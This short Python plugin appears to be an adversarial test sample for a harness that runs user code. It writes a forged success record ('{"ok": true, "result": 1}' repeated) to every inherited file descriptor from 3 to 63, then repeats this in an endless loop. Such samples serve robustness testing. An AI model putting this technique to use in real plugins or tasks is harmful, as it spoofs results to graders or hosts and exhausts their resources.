# Tries: documents without end.
import os

DOCUMENT = b"ok\n" + b'{"ok": true, "result": 1}\n' * 1000


def run(args, context):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, DOCUMENT)
        except OSError:
            continue
    while True:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, DOCUMENT)
            except OSError:
                continue
